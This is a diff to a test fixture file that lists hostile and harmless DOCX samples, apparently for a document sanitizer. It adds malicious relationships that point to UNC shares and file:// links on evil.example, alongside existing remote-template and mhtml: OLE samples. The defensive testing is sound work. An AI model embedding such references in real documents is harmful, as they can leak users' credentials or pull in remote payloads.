@@ -68,6 +68,8 @@ export const hostile: Record<string, Buffer> = {
   ),
   'a DOCX with a template in the network': docx(related('attachedTemplate', 'file:///\\\\evil\\a.dotm')),
   'a DOCX with a template on a host': docx(related('attachedTemplate', 'file://evil/a.dotm')),
+  'a DOCX with a picture on a share': docx(related('image', '\\\\evil.example\\share\\a.png')),
+  'a DOCX with a link to a share': docx(related('hyperlink', 'file://evil.example/share/a.docx')),
   'a DOCX with a foreign object': docx(
     related('oleObject', 'mhtml:https://evil.example/a!x-usc:https://evil.example/'),
   ),
@@ -160,6 +162,7 @@ export const harmless: Record<string, Buffer> = {
     name: 'word/media/image1.svg',
     content: '<!DOCTYPE svg><svg/>',
   }),
+  'a DOCX with a picture that is fetched': docx(related('image', 'https://kim.example/a.png')),
   'a DOCX made from a template on an older Mac': docx(
     related('attachedTemplate', 'file://localhost/Users/kim/Templates/Resume.dotx'),
   ),
